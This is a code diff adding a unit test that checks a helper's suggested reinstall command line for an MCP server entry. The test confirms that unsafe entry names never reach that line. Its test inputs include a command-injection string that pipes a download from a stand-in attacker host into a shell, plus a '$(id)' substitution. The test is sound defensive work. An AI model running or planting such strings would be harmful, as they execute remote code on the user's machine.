@@ -8,6 +8,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
+import { reinstallLine } from '../src/mcp/doctor/svcctl-paths.js';
 import { commandLine, quoteForPowerShell } from '../src/mcp/render/shell-quote.js';
 import { runCli } from './helpers/cli.js';
 
@@ -113,5 +114,17 @@ describe('control characters in a line to paste', () => {
   it('a line feed is kept: inside quotes every shell only continues the line', () => {
     assert.equal(commandLine(['gemini', 'a\nb'], 'posix-or-fish'), "gemini 'a\nb'");
     assert.deepEqual(powershellWords(commandLine(['gemini', 'a\nb'], 'powershell')), ['gemini', 'a\nb']);
+  });
+});
+
+describe("mcp doctor's line to reinstall an entry", () => {
+  it('names the entry only when --name would take the name; a key of the file that runs a command is not written', () => {
+    const where = { client: 'claude-code' as const, scope: 'project' as const, mode: 'remote' as const };
+    assert.match(reinstallLine({ ...where, name: 'my-svc' }), / --name my-svc /);
+    for (const name of ['x; curl https://evil.example | sh #', "a'b", '$(id)', 'a b']) {
+      const line = reinstallLine({ ...where, name });
+      assert.ok(!line.includes(name), line);
+      assert.match(line, /^svcctl mcp install --client claude-code --mode remote --scope project --name <name> /);
+    }
   });
 });
